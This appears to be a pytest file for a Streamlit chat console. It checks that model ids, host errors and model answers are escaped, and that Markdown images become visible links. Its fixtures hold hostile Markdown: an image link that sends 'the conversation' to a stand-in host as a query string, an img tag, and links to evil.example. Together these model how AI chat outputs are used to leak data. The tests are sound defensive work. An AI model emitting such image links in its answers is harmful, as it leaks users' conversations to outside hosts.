"""Text from hosts and models is shown, not interpreted: model ids and errors as plain text, answers without images."""

from __future__ import annotations

import re

import httpx
import pytest
import respx

from console import views
from tests.console.apptools import shown, start, texts
from tests.helpers import LMSTUDIO, OPENAI, lmstudio_models, openai_sse

HOSTILE = "**x** <img src=http://127.0.0.1:9/i.png> [click](http://evil.example)"
SSE = {"content-type": "text/event-stream"}
HOSTILE_ID = "**x**<img/src=http://127.0.0.1:9/i.png>[click](http://evil.example)"  # model ids have no spaces
EXFILTRATION = "![](http://127.0.0.1:9/?q=the+conversation)"


def unescaped(markdown: str) -> str:
    """Markdown with every backslash-escaped sign taken out: what is left is what Markdown would interpret."""
    return re.sub(r"\\.", "", markdown)


@pytest.mark.parametrize("text", [HOSTILE, "# heading", "1. list", "- item", ":red[colour]", "`code`", "a_b_ c*d*",
                                  "http://bare.example www.bare.example", "$x^2$", "~~struck~~", "| a | b |"])
def test_plain_escapes_every_sign_and_shows_the_text_unchanged(text: str) -> None:
    escaped = views.plain(text)
    assert shown(escaped) == text
    left = unescaped(escaped)
    assert not set(left) & set("\\`*_[]<>#|~$&"), escaped
    assert not re.search(r"^\s*([-+]|\d+[.)])|://|www\.", left, re.MULTILINE), escaped


def test_an_answer_keeps_its_formatting_but_its_images_become_visible_links() -> None:
    answer = f"**Sure.** {EXFILTRATION} and ![logo][ref] and ![also]\n\n[ref]: http://127.0.0.1:9/r\n[also]: /x"
    safe = views.answer_markdown(answer)
    assert "**Sure.**" in safe and "![" not in safe
    assert "[image](http://127.0.0.1:9/?q=the+conversation)" in safe  # an empty alt still shows a link text
    assert "[logo][ref]" in safe and "[ref]: http://127.0.0.1:9/r" in safe


def test_an_answer_that_cannot_hold_an_image_is_left_exactly_as_written() -> None:
    code = "```rust\nlet v = vec![1, 2];\n```\n<b>shown as text by Streamlit</b>"
    assert views.answer_markdown(code) == code


def test_a_hostile_model_id_and_its_error_show_literally_on_the_chat_page(wire: respx.MockRouter) -> None:
    model = f"lmstudio:{HOSTILE_ID}"
    wire.get(f"{LMSTUDIO}/api/v1/models").respond(json=lmstudio_models({HOSTILE_ID: True}))
    wire.post(f"{LMSTUDIO}/v1/chat/completions").respond(500, json={"error": {"message": f"{HOSTILE} crashed"}})
    at = start("app_pages/chat.py", chat_model=model)
    at.chat_input(key="chat_prompt").set_value("hi").run()
    assert not at.exception
    rendered = texts(at) + [s.label for s in at.status] + [b.label for b in at.button]
    quoting = [value for value in rendered if HOSTILE_ID in shown(value)]
    assert quoting, rendered  # the id is on the page, in the failure notice at least
    for value in quoting:  # the notice, the status box: nothing of the id is left to interpret
        assert not set(unescaped(value)) & set("*<>[]"), value
    assert at.selectbox(key="chat_model").value == model  # selectbox options are plain text already


def test_a_streamed_answer_renders_with_its_image_as_a_link(wire: respx.MockRouter, with_openai_key: str) -> None:
    wire.route(host="127.0.0.1", port=1234).mock(side_effect=httpx.ConnectError("refused"))
    wire.post(f"{OPENAI}/chat/completions").respond(headers=SSE, content=openai_sse(["**Done.** ", EXFILTRATION]))
    at = start("app_pages/chat.py")
    at.chat_input(key="chat_prompt").set_value("summarise").run()
    assert not at.exception
    answer = next(m.value for m in at.chat_message[1].markdown if "Done." in m.value)
    assert answer.startswith("**Done.**") and "![" not in answer and "http://127.0.0.1:9/?q=the+conversation" in answer
    at.run()  # and again from the conversation history
    again = next(m.value for m in at.chat_message[1].markdown if "Done." in m.value)
    assert "![" not in again


def test_a_host_error_in_a_flash_message_and_its_toast_is_plain(wire: respx.MockRouter) -> None:
    wire.route(host="127.0.0.1", port=1234).mock(side_effect=httpx.ConnectError("refused"))
    at = start("app_pages/models.py")
    at.text_input(key="new_model_id").set_value("nope:**x**[click](http://evil.example)")
    at.button(key="FormSubmitter:add_model_form-Add model").click().run()
    assert not at.exception
    errors = [e.value for e in at.error] + [t.value for t in at.toast]
    assert errors and all(not set(unescaped(e)) & set("*[]") for e in errors)
    assert any("**x**[click](http://evil.example)" in shown(e) for e in errors)


def test_views_that_quote_hosts_are_escaped_where_markdown_renders() -> None:
    assert views.load_label(f"lmstudio:{HOSTILE}", 1.0, "[d](http://e)") == views.plain(
        f"Loading lmstudio:{HOSTILE}… 1.0 s — [d](http://e)")
